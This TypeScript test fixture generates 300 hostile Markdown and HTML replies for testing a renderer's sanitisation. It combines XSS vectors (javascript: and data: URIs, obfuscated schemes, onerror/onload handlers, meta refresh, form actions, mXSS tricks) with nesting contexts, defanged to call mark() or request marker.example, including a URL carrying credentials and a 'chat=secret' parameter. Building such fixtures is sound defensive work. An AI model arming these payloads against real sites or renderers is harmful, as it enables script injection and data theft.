/**
 * Replies that try to run a script or to send a request from the page that shows them: each element with each
 * kind of address, at each place in a text. Their marker is harmless: it calls `mark`, or asks
 * `marker.example`.
 */

/** The origin that a request which left would reach; no server has its name (RFC 2606). */
export const markerHost = "marker.example";

/** How a hostile address is written, given the number of its text. */
const addresses: readonly ((number: number) => string)[] = [
  (number) => `javascript:mark(${number})`,
  (number) => `JaVaScRiPt:mark(${number})`,
  (number) => `java\tscript:mark(${number})`,
  (number) => `java&#115;cript&colon;mark(${number})`,
  (number) => `&#x1;javascript:mark(${number})`,
  (number) => `javascript://${markerHost}/%0amark(${number})`,
  (number) => `data:text/html,<script>mark(${number})</script>`,
  (number) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='mark(${number})'/>`,
  (number) => `vbscript:mark(${number})`,
  (number) => `https://${markerHost}/${number}`,
  (number) => `//${markerHost}/${number}`,
  (number) => `\\\\${markerHost}\\${number}`,
  (number) => `https://user:pass@${markerHost}/${number}?chat=secret`,
  (number) => `blob:https://${markerHost}/${number}`,
  (number) => `view-source:https://${markerHost}/${number}`,
];

/** How an element carries an address, and a handler that needs none. */
const elements: readonly ((address: string, number: number) => string)[] = [
  (address) => `[a link](${address})`,
  (address) => `[a link](<${address}> "title' onmouseover='mark()")`,
  (address) => `![an image](${address})`,
  (address) => `[![an image](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[a reference][hostile]\n\n[hostile]: ${address}\n`,
  (address, number) => `<script src="${address}">mark(${number})</script>`,
  (address, number) => `<img src="${address}" onerror="mark(${number})">`,
  (address, number) => `<img/src=x/onerror=mark(${number}) srcset="${address} 2x">`,
  (address, number) => `<a href="${address}" onfocus="mark(${number})" autofocus tabindex=0>a link</a>`,
  (address) => `<iframe src="${address}" srcdoc="<script>parent.mark()</script>"></iframe>`,
  (address, number) =>
    `<svg onload="mark(${number})"><use href="${address}"/><image href="${address}"/></svg>`,
  (address, number) =>
    `<math href="${address}"><mtext><style><img src=x onerror=mark(${number})></style></math>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) =>
    `<link rel=stylesheet href="${address}"><style>@import "${address}"; * { background: url(${address}) }</style>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}">`,
  (address) => `<form action="${address}"><button autofocus formaction="${address}">Send</button></form>`,
  (address, number) =>
    `<video src="${address}" poster="${address}" onerror="mark(${number})" autoplay></video>`,
  (address, number) =>
    `<details open ontoggle="mark(${number})"><audio src="${address}" autoplay></audio></details>`,
  (address) => `<p style="background-image: url('${address}')">styled</p>`,
  (address, number) =>
    `<template><img src="${address}"></template><noscript><p title="</noscript><img src=x onerror=mark(${number})>">`,
  (address) => `$\\href{${address}}{x}$ and $\\url{${address}}$ and $\\includegraphics{${address}}$`,
  (address, number) =>
    `$$\\htmlData{onclick=mark(${number})}{x} \\style{background:url(${address})}{y} \\text{<img src=x onerror=mark(${number})>}$$`,
];

/** Where in a text it stands. */
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- an item\n  - ${text.replaceAll("\n", "\n    ")}`,
  (text) => `> > ${text.replaceAll("\n", "\n> > ")}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll("\n", " ").replaceAll("|", "\\|")} | c |`,
  (text) => `### ${text.replaceAll("\n", " ")}`,
  (text) => `**bold _and ${text}_**`,
  (text) => `\`\`\`html"onload=mark()\n${text}\n\`\`\`\n\n${text}`,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `<!-- ${text} --!> ${text}`,
  (text) => `a note[^1]\n\n[^1]: ${text}`,
  (text) => `[outer ${text}](https://${markerHost}/outer)`,
  (text) => `\`code\` ${text.replaceAll("<", "\\<<")}`,
];

/** How many texts there are. */
const count = 300;

/** The texts: every element with every kind of address, and all of them at every place. */
export const hostileMarkdown: readonly string[] = Array.from({ length: count }, (_, number) => {
  const element = pick(elements, number);
  const address = pick(addresses, number + Math.floor(number / elements.length));
  const place = pick(places, number + Math.floor(number / addresses.length));
  return place(element(address(number), number));
});

function pick<Item>(items: readonly Item[], index: number): Item {
  const item = items[index % items.length];
  if (item === undefined) throw new Error("there is nothing to choose from");
  return item;
}
